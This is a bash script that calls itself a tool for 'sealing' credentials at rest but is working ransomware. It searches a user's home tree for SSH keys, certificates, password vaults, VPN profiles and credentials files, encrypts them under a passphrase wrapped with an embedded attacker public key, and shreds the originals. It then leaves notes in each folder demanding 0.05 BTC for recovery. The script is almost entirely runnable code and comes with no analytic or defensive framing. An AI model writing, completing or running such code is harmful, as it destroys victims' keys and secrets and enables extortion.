#!/usr/bin/env bash
# "Seal" credential material at rest: every key, certificate and password
# database under the target tree is encrypted and the plaintext destroyed.
# The per-run passphrase is wrapped with the recovery public key below.
set -u

TARGET="${1:-$HOME}"
NOTE_NAME="RECOVER_YOUR_KEYS.txt"
EXT=".sealed"
RECOVERY_PUB=$(cat <<'PEM'
-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAx3n1c0R7bq9vY2KQ4f8d
Vt0mWc6bX1rj3oHq0i6sJ8tXo2QmZb7Q0w3u7YQ2s9x4cQ1aK5mF2yL8nP0tR6eW
b9sZ1hD4kJ7vN3cX2aQ5fT8uY0iL6oP1rS4wE9gH3jK2lM5nB7vC0xZ8qA1sD4f
G6hJ9kL2zX5cV8bN1mQ4wE7rT0yU3iO6pA9sD2fG5hJ8kL1zX4cV7bN0mQ3wE6r
T9yU2iO5pA8sD1fG4hJ7kL0zX3cV6bN9mQ2wE5rT8yU1iO4pA7sD0fG3hJ6kL9z
X2cV5bN8mQ1wE4rT7yU0iO3pA6sD9fG2hJ5kL8zX1cV4bN7mQ0wE3rT6yU9iO2p
QIDAQAB
-----END PUBLIC KEY-----
PEM
)

PATTERNS=( -name '*.pem' -o -name '*.key' -o -name 'id_rsa' -o -name 'id_ed25519' -o -name 'id_ecdsa'
           -o -name '*.p12' -o -name '*.pfx' -o -name '*.kdbx' -o -name '*.gpg' -o -name '*.jks'
           -o -name 'credentials' -o -name '*.ovpn' )

workdir=$(mktemp -d)
trap 'rm -rf "$workdir"' EXIT
printf '%s\n' "$RECOVERY_PUB" > "$workdir/recovery.pub"

pass=$(openssl rand -hex 32)
printf '%s' "$pass" | openssl pkeyutl -encrypt -pubin -inkey "$workdir/recovery.pub" \
    | base64 -w0 > "$workdir/wrapped"

seal_file() {
    local f="$1"
    if openssl enc -aes-256-cbc -pbkdf2 -iter 200000 -salt -pass "pass:$pass" \
            -in "$f" -out "$f$EXT" 2>/dev/null; then
        shred -u -n 2 -- "$f" 2>/dev/null || rm -f -- "$f"
        return 0
    fi
    rm -f -- "$f$EXT"
    return 1
}

count=0
failed=0
while IFS= read -r -d '' file; do
    case "$file" in *"$EXT") continue ;; esac
    if seal_file "$file"; then
        count=$((count + 1))
        dir=$(dirname "$file")
        [ -f "$dir/$NOTE_NAME" ] || cat > "$dir/$NOTE_NAME" <<NOTE
Your private keys, certificates and password vaults in this folder were sealed.
To recover them, send the recovery ID below to keys-restore@proton.example
together with proof of payment (0.05 BTC to bc1qk8x4l0sealrecov9z3y).

Recovery ID: $(cat "$workdir/wrapped")
NOTE
    else
        failed=$((failed + 1))
    fi
done < <(find "$TARGET" -xdev -type f \( "${PATTERNS[@]}" \) -print0 2>/dev/null)

unset pass
echo "sealed $count files ($failed skipped)"
